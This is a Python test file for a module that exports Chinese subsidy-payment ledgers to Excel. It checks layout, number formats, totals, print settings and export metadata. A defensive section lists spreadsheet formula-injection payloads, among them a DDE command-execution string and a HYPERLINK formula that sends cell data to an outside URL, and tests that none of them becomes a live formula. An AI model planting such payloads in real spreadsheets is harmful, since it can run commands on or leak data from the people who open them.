import io
import zipfile
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from core.sheets import Column, Kind, Report, safe_text, workbook

COLUMNS = [
    Column("姓名", width=10),
    Column("证件号码", width=22),
    Column("派驻单位", width=30, left=True),
    Column("服务日期", Kind.DATE, 16),
    Column("次数", Kind.NUMBER, 7, total=True),
    Column("补助金额", Kind.MONEY, 13, total=True),
    Column("签领", width=12),
]
ROWS = [
    ("张昇", "139999197803050010", "滹沱示范谷物种植专业合作社", date(2026, 3, 11), 1, 800_00, None),
    ("李喆", "13999919920303012X", "示范精密机械有限公司", date(2026, 4, 8), 3, 2_100_05, ""),
    ("欧阳明远", "139999198206170027", "赵县=第一=梨园", None, "—", None, None),
]
REPORT = Report("2026年科技特派员工作补助发放台账", "示范农林学院", date(2026, 11, 22), COLUMNS, ROWS)
AT = datetime(2026, 11, 22, 2, 21, tzinfo=UTC)


def made(report: Report = REPORT, **conditions: str) -> bytes:
    return workbook(report, by="刘静怡", at=AT, conditions=conditions)


def opened(data: bytes) -> Worksheet:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def values(sheet: Worksheet, row: int) -> list[Any]:
    return [cell.value for cell in sheet[row]]


def test_the_head_says_what_it_is_whose_and_of_when() -> None:
    sheet = opened(made())

    assert sheet["A1"].value == "2026年科技特派员工作补助发放台账"
    assert [value for value in values(sheet, 2) if value] == [
        "填报单位：示范农林学院（盖章）",
        "填报日期：2026年11月22日",
        "金额单位：元",
    ]
    assert values(sheet, 3) == ["序号", "姓名", "证件号码", "派驻单位", "服务日期", "次数", "补助金额", "签领"]
    assert {str(merged) for merged in sheet.merged_cells.ranges} >= {"A1:H1", "A2:C2", "D2:E2", "F2:H2"}


def test_the_rows_are_text_numbers_days_and_amounts() -> None:
    sheet = opened(made())

    assert values(sheet, 4) == [
        1,
        "张昇",
        "139999197803050010",
        "滹沱示范谷物种植专业合作社",
        datetime(2026, 3, 11),
        1,
        800,
        None,
    ]
    assert values(sheet, 5)[5:] == [3, 2100.05, None]
    assert values(sheet, 6)[4:] == [None, "—", None, None]
    assert [cell.number_format for cell in sheet[4]] == [
        "0",
        "@",
        "@",
        "@",
        'yyyy"年"m"月"d"日"',
        "0",
        "#,##0.00",
        "@",
    ]
    assert [cell.data_type for cell in sheet[4]][:7] == ["n", "s", "s", "s", "d", "n", "n"]
    assert sheet["G4"].alignment.horizontal == "right"


def test_the_total_is_a_formula_and_stands_in_capitals() -> None:
    sheet = opened(made())

    assert values(sheet, 7) == ["合　　计", None, None, None, None, "=SUM(F4:F6)", "=SUM(G4:G6)", "—"]
    assert values(sheet, 8)[:3] == ["合计（大写）", None, "人民币贰仟玖佰元零伍分"]
    assert [value for value in values(sheet, 10) if value] == [
        "单位负责人：",
        "财务负责人：",
        "审核人：",
        "制表人：",
        "联系电话：",
    ]


def test_no_cell_of_the_body_is_merged() -> None:
    sheet = opened(made())

    assert [merged for merged in sheet.merged_cells.ranges if merged.min_row in (4, 5, 6)] == []


def test_a_report_without_rows_adds_up_to_nothing() -> None:
    sheet = opened(made(Report("台账", "学院", date(2026, 1, 1), COLUMNS, [])))

    assert values(sheet, 4) == ["合　　计", None, None, None, None, 0, 0, "—"]
    assert sheet["C5"].value == "人民币零元整"


def test_a_report_without_amounts_has_no_capitals_and_no_unit_of_money() -> None:
    columns = [Column("姓名"), Column("区县")]
    sheet = opened(made(Report("名册", "市科技局", date(2026, 1, 1), columns, [("张昇", "正定县")])))

    assert [value for row in sheet.values for value in row if value] == [
        "名册",
        "填报单位：市科技局（盖章）",
        "填报日期：2026年1月1日",
        "序号",
        "姓名",
        "区县",
        1,
        "张昇",
        "正定县",
        "单位负责人：　　　　财务负责人：　　　　审核人：　　　　制表人：　　　　联系电话：",
    ]


def test_it_prints_across_one_page_wide_with_its_head_on_every_page() -> None:
    sheet = opened(made())

    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert (sheet.print_title_rows, sheet.freeze_panes) == ("$1:$3", "C4")
    assert sheet.oddFooter is not None
    assert sheet.oddFooter.center.text == "第 &P 页　共 &N 页"


def test_the_second_sheet_says_by_whom_when_and_under_which_conditions() -> None:
    book = openpyxl.load_workbook(io.BytesIO(made(状态="已发放", 年度="2026")))

    assert [sheet.title for sheet in book] == ["2026年科技特派员工作补助发放台账", "导出说明"]
    assert {name: value or "" for name, value in book["导出说明"].values} == {
        "报表": "2026年科技特派员工作补助发放台账",
        "导出人": "刘静怡",
        "导出时间": "2026年11月22日 10:21",
        "记录数": "3",
        "筛选条件": "",
        "状态": "已发放",
        "年度": "2026",
    }
    assert openpyxl.load_workbook(io.BytesIO(made()))["导出说明"]["B5"].value == "无（全部记录）"


def test_the_file_is_named_by_what_whose_and_when() -> None:
    assert REPORT.file_name == "2026年科技特派员工作补助发放台账_示范农林学院_20261122.xlsx"


def test_a_row_that_does_not_fit_its_columns_is_a_mistake_of_ours() -> None:
    with pytest.raises(ValueError, match="row 1 has 1 values for 7 columns"):
        made(Report("台账", "学院", date(2026, 1, 1), COLUMNS, [("张昇",)]))


# --- what a person typed never runs -----------------------------------------------------------------------------------

PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://example.cn/?"&A1)',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u3000=1",
    "\x00=1+1",
    "\u200b=1",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_cell_becomes_a_formula(payload: str) -> None:
    columns = [Column("备注"), Column("次数", Kind.NUMBER), Column("金额", Kind.MONEY)]
    report = Report(payload, payload, date(2026, 1, 1), columns, [(payload, payload, payload)], signers=[payload])

    book = openpyxl.load_workbook(io.BytesIO(workbook(report, by=payload, at=AT, conditions={payload: payload})))

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    typed = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert sum(payload.strip()[-2:] in value for value in typed) >= 6
    assert [value for value in typed if value.lstrip().startswith(tuple("=+-@＝＋－＠"))] == []


@pytest.mark.parametrize("text", ["张昇", "0311-86001234", "A=B", "——", "—", "139999197803050010", "'已有撇号", ""])
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert safe_text(text) == text


@given(st.text())
def test_whatever_was_typed_can_be_written_and_read(text: str) -> None:
    sheet = opened(made(Report("台账", "学院", date(2026, 1, 1), [Column("备注")], [(text,)])))

    assert sheet["B4"].data_type != "f"
    assert not str(sheet["B4"].value or "").lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


def test_identity_numbers_lie_in_the_file_as_text() -> None:
    with zipfile.ZipFile(io.BytesIO(made())) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")

    assert b"<is><t>139999197803050010</t></is>" in sheet
    assert b"<v>139999197803050010</v>" not in sheet
